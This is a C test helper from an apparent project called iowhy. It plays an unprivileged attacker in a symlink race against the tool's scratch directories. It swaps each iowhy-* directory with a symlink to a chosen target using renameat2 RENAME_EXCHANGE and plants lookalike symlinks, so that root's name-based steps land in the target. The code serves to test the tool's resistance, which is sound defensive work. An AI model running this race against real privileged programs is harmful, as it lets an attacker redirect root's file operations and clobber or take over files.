// SPDX-License-Identifier: GPL-2.0
/*
 * tests/racer: an unprivileged user attacking iowhy's scratch area (test_scratch_race.sh).
 *
 * usage: racer DIR TARGET ITERATIONS
 * Run as a user who owns DIR (the --dir root gives iowhy). For ITERATIONS rounds (or until killed):
 * every directory named iowhy-* in DIR is swapped (renameat2 RENAME_EXCHANGE) with a symlink to
 * TARGET, held there a moment and swapped back, so root's next name-based step in that directory lands in
 * TARGET; and symlinks to TARGET are planted under names of the scratch's shape. Prints (also
 * on SIGTERM) how many swaps it made.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <unistd.h>
#include <sys/syscall.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int exchange(int dfd, const char *a, const char *b)
{
	return (int)syscall(SYS_renameat2, dfd, a, dfd, b, RENAME_EXCHANGE);
}

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	unsigned long swaps = 0, rounds;
	int dfd;

	if (argc != 4) {
		fprintf(stderr, "usage: racer DIR TARGET ITERATIONS\n");
		return 2;
	}
	rounds = strtoul(argv[3], NULL, 10);
	dfd = open(argv[1], O_RDONLY | O_DIRECTORY);
	if (dfd < 0) {
		perror(argv[1]);
		return 1;
	}
	signal(SIGTERM, on_term);
	for (unsigned long r = 0; r < rounds && !stop; r++) {
		int fd = openat(dfd, ".", O_RDONLY | O_DIRECTORY); /* its own offset */
		DIR *d = fd >= 0 ? fdopendir(fd) : NULL;
		struct dirent *e;
		char link[64];

		if (!d)
			return 1;
		snprintf(link, sizeof(link), "evil-%lu", r % 4);
		unlinkat(dfd, link, 0);
		symlinkat(argv[2], dfd, link);
		while ((e = readdir(d))) {
			if (strncmp(e->d_name, "iowhy-", 6) || e->d_type != DT_DIR)
				continue;
			if (exchange(dfd, e->d_name, link) != 0)
				continue;
			/* the scratch name is now a symlink to TARGET: hold it a moment, then swap back */
			swaps++;
			if (r % 3 == 0)
				usleep(200);
			exchange(dfd, e->d_name, link);
		}
		closedir(d);
		/* links under names of the scratch's shape (a few, replanted: the directory stays small) */
		snprintf(link, sizeof(link), "iowhy-plant%lu", r % 8);
		unlinkat(dfd, link, 0);
		symlinkat(argv[2], dfd, link);
	}
	printf("%lu\n", swaps);
	return 0;
}
